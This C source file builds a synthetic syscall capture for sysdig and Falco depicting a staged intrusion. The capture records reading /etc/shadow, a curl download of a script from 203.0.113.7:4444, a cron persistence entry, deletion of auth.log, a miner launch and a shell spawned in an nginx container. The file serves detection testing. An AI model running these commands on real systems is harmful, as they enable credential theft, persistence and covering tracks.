/* SPDX-License-Identifier: Apache-2.0 */
/*
 * mksample: writes samples/demo.scap, a hand-built capture of a known syscall
 * sequence that tells a small intrusion story on host "ff-demo":
 *
 *   root's ssh shell (bash 1200) reads /etc/shadow with cat, fetches a payload
 *   from 203.0.113.7:4444 with curl into /tmp/.x, makes it executable, plants
 *   /etc/cron.d/persist and deletes /var/log/auth.log; inside a docker
 *   container an nginx worker spawns "sh -c id".
 *
 * Every event uses the 2022 parameter layout (compat profile), so sysdig 0.29.3
 * and Falco open the file.  Until live capture lands this is the bundled
 * sample; the live scenarios will record the same behaviours for real.
 */
#include "config.h"

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ff_evtbuild.h"
#include "ff_meta.h"
#include "ff_scap.h"
#include "ff_writer.h"

#define T0 1793527200000000000ULL /* 2026-11-01 10:00:00 UTC */
#define CONTAINER_ID "3f2a9c1e7b5d4a60c8e2f1a9b3c7d5e1f0a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9"
#define DOCKER_CG "cpuset=/docker/" CONTAINER_ID "\0cpu=/docker/" CONTAINER_ID "\0"

struct gen {
	struct ff_writer *w;
	struct ff_evtb b;
	struct ff_err err;
	uint64_t ts;
	int rc;
};

static struct ff_str S(const char *s) {
	struct ff_str r = { s, (uint32_t)strlen(s) };

	return r;
}

/* argv/env blocks are NUL-separated, each item NUL-terminated */
static struct ff_str
SL(const char *s, size_t len) {
	struct ff_str r = { s, (uint32_t)len };

	return r;
}

static void
emit_finish(struct gen *g)
{
	struct ff_evt ev;

	if (g->rc < 0)
		return;
	g->rc = ff_evtb_finish(&g->b, &ev, &g->err);
	if (g->rc == 0) {
		ev.cpu = (uint16_t)(g->b.tid % 2);
		g->rc = ff_writer_write_event(g->w, &ev, &g->err);
	}
}

/* Start an event `us` microseconds after the previous one. */
static void ev(struct gen *g, unsigned us, uint64_t tid, uint16_t type)
{
	g->ts += us * 1000ULL;
	ff_evtb_start(&g->b, g->ts, tid, type);
}

static int put_meta(struct gen *g)
{
	static const char bash_env[] =
	    "HOME=/root\0SSH_CONNECTION=198.51.100.23 50122 10.0.0.5 22\0";
	static const char shim_args[] = "-namespace\0moby\0-id\0" CONTAINER_ID "\0";
	struct ff_machine mi = { .num_cpus = 2, .memory_bytes = 4ULL << 30 };
	struct ff_iface lo = { .type = FF_IF_IPV4,
		               .addr = { 127, 0, 0, 1 },
		               .netmask = { 255, 0, 0, 0 },
		               .name = S("lo") };
	struct ff_iface eth = { .type = FF_IF_IPV4,
		                .addr = { 10, 0, 0, 5 },
		                .netmask = { 255, 255, 255, 0 },
		                .bcast = { 10, 0, 0, 255 },
		                .linkspeed = 1000,
		                .name = S("eth0") };
	struct ff_user users[] = {
		{ FF_UL_USER, 0, 0, S("root"), S("/root"), S("/bin/bash") },
		{ FF_UL_USER, 33, 33, S("www-data"), S("/var/www"), S("/usr/sbin/nologin") },
		{ FF_UL_GROUP, 0, 0, S("root"), S(""), S("") },
		{ FF_UL_GROUP, 0, 33, S("www-data"), S(""), S("") },
	};
	struct ff_proc procs[] = {
		{ .tid = 1,
		  .pid = 1,
		  .ptid = 0,
		  .comm = S("systemd"),
		  .exe = S("/sbin/init"),
		  .exepath = S("/usr/lib/systemd/systemd"),
		  .cwd = S("/"),
		  .fdlimit = 1024 },
		{ .tid = 812,
		  .pid = 812,
		  .ptid = 1,
		  .comm = S("sshd"),
		  .exe = S("sshd:"),
		  .exepath = S("/usr/sbin/sshd"),
		  .args = SL("root@pts/0", 11),
		  .cwd = S("/"),
		  .fdlimit = 1024 },
		{ .tid = 1200,
		  .pid = 1200,
		  .ptid = 812,
		  .comm = S("bash"),
		  .exe = S("-bash"),
		  .exepath = S("/usr/bin/bash"),
		  .cwd = S("/root"),
		  .fdlimit = 1024,
		  .env = SL(bash_env, sizeof(bash_env) - 1),
		  .cgroups = S(""),
		  .root = S("/") },
		{ .tid = 1900,
		  .pid = 1900,
		  .ptid = 1,
		  .comm = S("containerd-shim"),
		  .exe = S("/usr/bin/containerd-shim-runc-v2"),
		  .exepath = S("/usr/bin/containerd-shim-runc-v2"),
		  .args = SL(shim_args, sizeof(shim_args) - 1),
		  .cwd = S("/"),
		  .fdlimit = 1024 },
		{ .tid = 2000,
		  .pid = 2000,
		  .ptid = 1900,
		  .comm = S("nginx"),
		  .exe = S("nginx"),
		  .exepath = S("/usr/sbin/nginx"),
		  .cwd = S("/"),
		  .fdlimit = 1048576,
		  .uid = 33,
		  .gid = 33,
		  .cgroups = SL(DOCKER_CG, sizeof(DOCKER_CG) - 1),
		  .vtid = 7,
		  .vpid = 7,
		  .root = S("/") },
	};
	struct ff_fdinfo tty[3];
	struct ff_buf buf = { 0 };
	size_t mark, i;
	int rc;

	for (i = 0; i < sizeof(procs) / sizeof(procs[0]); i++) {
		procs[i].sid = procs[i].tid;
		procs[i].vpgid = procs[i].tid;
		procs[i].loginuid = procs[i].tid == 1200 ? 0 : 0xFFFFFFFFu;
		procs[i].has = FF_PROC_HAS_LOGINUID | FF_PROC_HAS_EXE_WRITABLE;
		if (!procs[i].vtid)
			procs[i].vtid = procs[i].vpid = (int64_t)procs[i].tid;
	}
	for (i = 0; i < 3; i++) {
		memset(&tty[i], 0, sizeof(tty[i]));
		tty[i].fd = (int64_t)i;
		tty[i].type = FF_FD_FILE_V2;
		tty[i].open_flags = 3; /* O_RDWR */
		tty[i].name = S("/dev/pts/0");
	}
	snprintf(mi.hostname, sizeof(mi.hostname), "ff-demo");
	rc = ff_meta_put_machine(&buf, &mi, &g->err);
	rc = rc ?: ff_meta_begin(&buf, FF_BT_IL_V2, 0, &mark, &g->err);
	rc = rc ?: ff_meta_put_iface(&buf, &lo, &g->err);
	rc = rc ?: ff_meta_put_iface(&buf, &eth, &g->err);
	rc = rc ?: ff_meta_end(&buf, mark, &g->err);
	rc = rc ?: ff_meta_begin(&buf, FF_BT_UL_V2, 0, &mark, &g->err);
	for (i = 0; !rc && i < sizeof(users) / sizeof(users[0]); i++)
		rc = ff_meta_put_user(&buf, &users[i], &g->err);
	rc = rc ?: ff_meta_end(&buf, mark, &g->err);
	rc = rc ?: ff_meta_begin(&buf, FF_BT_PL_V9, 0, &mark, &g->err);
	for (i = 0; !rc && i < sizeof(procs) / sizeof(procs[0]); i++)
		rc = ff_meta_put_proc(&buf, &procs[i], &g->err);
	rc = rc ?: ff_meta_end(&buf, mark, &g->err);
	rc = rc ?: ff_meta_begin(&buf, FF_BT_FDL_V2, 1200, &mark, &g->err);
	for (i = 0; !rc && i < 3; i++)
		rc = ff_meta_put_fd(&buf, &tty[i], &g->err);
	rc = rc ?: ff_meta_end(&buf, mark, &g->err);
	rc = rc ?: ff_writer_write_meta(g->w, buf.p, buf.len, &g->err);
	ff_buf_free(&buf);
	return rc;
}

/* parent `ptid` (child of `pptid`) forks child `tid`, which then execs `exe` with `args` */
static void spawn(struct gen *g, uint64_t pptid, uint64_t ptid, uint64_t tid, const char *pcomm,
                  const char *pexe, const char *filename, const char *comm, const char *args,
                  size_t argslen, const char *cwd, const char *cgroups, size_t cglen, uint32_t uid)
{
	static const char env[] = "HOME=/root\0PATH=/usr/sbin:/usr/bin:/sbin:/bin\0";

	ev(g, 40, ptid, FFE_CLONE_E);
	emit_finish(g);
	ev(g, 85, ptid, FFE_CLONE_X);
	ff_evtb_params(&g->b, 20, (long long)tid, pexe, "", 0LL, (long long)ptid, (long long)ptid,
	               (long long)pptid, cwd, 1024LL, 0LL, 120LL, 8800LL, 3900LL, 0LL, pcomm,
	               cgroups, (long long)cglen,
	               0x1800000LL /* PPM_CL_CHILD_CLEARTID|PPM_CL_CHILD_SETTID */, (long long)uid,
	               (long long)uid, (long long)ptid, (long long)ptid);
	emit_finish(g);
	ev(g, 12, tid, FFE_CLONE_X);
	ff_evtb_params(&g->b, 20, 0LL, pexe, "", 0LL, (long long)tid, (long long)tid,
	               (long long)ptid, cwd, 1024LL, 0LL, 0LL, 8800LL, 1200LL, 0LL, pcomm, cgroups,
	               (long long)cglen, 0x1800000LL, (long long)uid, (long long)uid,
	               (long long)tid, (long long)tid);
	emit_finish(g);
	ev(g, 60, tid, FFE_EXECVE_E);
	ff_evtb_params(&g->b, -1, filename);
	emit_finish(g);
	ev(g, 310, tid, FFE_EXECVE_X);
	ff_evtb_params(&g->b, 20, 0LL, comm, args, (long long)argslen, (long long)tid,
	               (long long)tid, (long long)ptid, cwd, 1024LL, 0LL, 95LL, 5600LL, 1000LL, 0LL,
	               comm, cgroups, (long long)cglen, env, (long long)(sizeof(env) - 1),
	               34816LL /* tty */, (long long)tid, uid == 0 ? 0LL : 4294967295LL, 0LL);
	emit_finish(g);
}

static void procexit(struct gen *g, uint64_t tid)
{
	ev(g, 90, tid, FFE_PROCEXIT_E);
	ff_evtb_params(&g->b, 4, 0LL, 0LL, 0LL, 0LL);
	emit_finish(g);
}

static void openat(struct gen *g, uint64_t tid, const char *path, long long flags, long long mode,
                   long long fd)
{
	ev(g, 25, tid, FFE_OPENAT_E);
	ff_evtb_params(&g->b, 4, -100LL, path, flags, mode);
	emit_finish(g);
	ev(g, 14, tid, FFE_OPENAT_X);
	ff_evtb_params(&g->b, 6, fd, -100LL, path, flags, mode, 0x803LL);
	emit_finish(g);
}

static void rw(struct gen *g, uint64_t tid, int is_write, long long fd, const char *data,
               long long len)
{
	ev(g, 20, tid, is_write ? FFE_WRITE_E : FFE_READ_E);
	ff_evtb_params(&g->b, 2, fd, len);
	emit_finish(g);
	ev(g, 9, tid, is_write ? FFE_WRITE_X : FFE_READ_X);
	ff_evtb_params(&g->b, 2, len, data, len < 80 ? len : 80LL);
	emit_finish(g);
}

static void closefd(struct gen *g, uint64_t tid, long long fd)
{
	ev(g, 15, tid, FFE_CLOSE_E);
	ff_evtb_params(&g->b, 1, fd);
	emit_finish(g);
	ev(g, 4, tid, FFE_CLOSE_X);
	ff_evtb_params(&g->b, 1, 0LL);
	emit_finish(g);
}

static int story(struct gen *g)
{
	static const char shadow[] = "root:$6$Gq1x$Zk9.d1/oP2w0rXj3u:19700:0:99999:7:::\n"
	                             "daemon:*:19700:0:99999:7:::\n";
	static const char get[] = "GET /x.sh HTTP/1.1\r\nHost: 203.0.113.7:4444\r\n\r\n";
	static const char resp[] = "HTTP/1.1 200 OK\r\nContent-Length: 61\r\n\r\n";
	static const char payload[] =
	    "#!/bin/sh\nnohup /tmp/.x/miner -o pool:3333 >/dev/null 2>&1 &\n";
	static const char cron[] = "* * * * * root /tmp/.x.sh\n";

	/* 1. cat /etc/shadow */
	spawn(g, 812, 1200, 1301, "bash", "-bash", "/usr/bin/cat", "cat", "/etc/shadow", 12,
	      "/root", "", 0, 0);
	openat(g, 1301, "/etc/shadow", 1 /* O_RDONLY */, 0, 3);
	rw(g, 1301, 0, 3, shadow, (long long)sizeof(shadow) - 1);
	rw(g, 1301, 1, 1, shadow, (long long)sizeof(shadow) - 1);
	closefd(g, 1301, 3);
	procexit(g, 1301);

	/* 2. curl -s http://203.0.113.7:4444/x.sh -o /tmp/.x.sh */
	{
		static const char args[] = "-s\0http://203.0.113.7:4444/x.sh\0-o\0/tmp/.x.sh\0";

		spawn(g, 812, 1200, 1302, "bash", "-bash", "/usr/bin/curl", "curl", args,
		      sizeof(args) - 1, "/root", "", 0, 0);
	}
	ev(g, 400, 1302, FFE_SOCKET_E);
	ff_evtb_params(&g->b, 3, 2LL /* AF_INET */, 1LL /* SOCK_STREAM */, 6LL);
	emit_finish(g);
	ev(g, 11, 1302, FFE_SOCKET_X);
	ff_evtb_params(&g->b, 1, 5LL);
	emit_finish(g);
	ev(g, 30, 1302, FFE_CONNECT_E);
	ff_evtb_params(&g->b, 2, 5LL, "203.0.113.7:4444");
	emit_finish(g);
	ev(g, 52000, 1302, FFE_CONNECT_X);
	ff_evtb_params(&g->b, 2, 0LL, "10.0.0.5:51234->203.0.113.7:4444");
	emit_finish(g);
	rw(g, 1302, 1, 5, get, (long long)sizeof(get) - 1);
	rw(g, 1302, 0, 5, resp, (long long)sizeof(resp) - 1);
	openat(g, 1302, "/tmp/.x.sh", 0x106 /* O_WRONLY|O_CREAT|O_TRUNC */, 0666, 6);
	rw(g, 1302, 1, 6, payload, (long long)sizeof(payload) - 1);
	closefd(g, 1302, 6);
	closefd(g, 1302, 5);
	procexit(g, 1302);

	/* 3. chmod +x /tmp/.x.sh */
	spawn(g, 812, 1200, 1303, "bash", "-bash", "/usr/bin/chmod", "chmod", "+x\0/tmp/.x.sh", 14,
	      "/root", "", 0, 0);
	ev(g, 70, 1303, FFE_FCHMODAT_E);
	emit_finish(g);
	ev(g, 9, 1303, FFE_FCHMODAT_X);
	ff_evtb_params(&g->b, 4, 0LL, -100LL, "/tmp/.x.sh", 0755LL);
	emit_finish(g);
	procexit(g, 1303);

	/* 4. persistence: echo ... > /etc/cron.d/persist (by the shell itself) */
	openat(g, 1200, "/etc/cron.d/persist", 0x106, 0644, 3);
	rw(g, 1200, 1, 3, cron, (long long)sizeof(cron) - 1);
	closefd(g, 1200, 3);

	/* 5. rm -f /var/log/auth.log */
	spawn(g, 812, 1200, 1304, "bash", "-bash", "/usr/bin/rm", "rm", "-f\0/var/log/auth.log", 21,
	      "/root", "", 0, 0);
	ev(g, 80, 1304, FFE_UNLINKAT_E);
	emit_finish(g);
	ev(g, 21, 1304, FFE_UNLINKAT_X);
	ff_evtb_params(&g->b, 4, 0LL, -100LL, "/var/log/auth.log", 0LL);
	emit_finish(g);
	procexit(g, 1304);

	/* 6. a shell spawned inside the nginx container */
	spawn(g, 1900, 2000, 2001, "nginx", "nginx", "/bin/sh", "sh", "-c\0id", 6, "/", DOCKER_CG,
	      sizeof(DOCKER_CG) - 1, 33);
	spawn(g, 2000, 2001, 2002, "sh", "/bin/sh", "/usr/bin/id", "id", "", 0, "/", DOCKER_CG,
	      sizeof(DOCKER_CG) - 1, 33);
	procexit(g, 2002);
	procexit(g, 2001);
	return g->rc;
}

int main(int argc, char **argv)
{
	struct gen g = { .ts = T0 };
	const char *out = argc > 1 ? argv[1] : "demo.scap";
	struct ff_writer_opts o = { .sz = sizeof(o), .codec = FF_CODEC_GZIP };
	int rc;

	if (argc > 2 || (argc == 2 && argv[1][0] == '-')) {
		fprintf(stderr, "usage: mksample [OUT.scap]\n");
		return 2;
	}
	rc = ff_writer_open(&g.w, out, &o, &g.err);
	if (rc == 0) {
		rc = put_meta(&g);
		rc = rc ?: story(&g);
		{
			int crc = ff_writer_close(g.w, rc ? NULL : &g.err);

			rc = rc ?: crc;
		}
	}
	if (rc < 0) {
		fprintf(stderr, "mksample: %s\n", g.err.msg);
		return 1;
	}
	return 0;
}
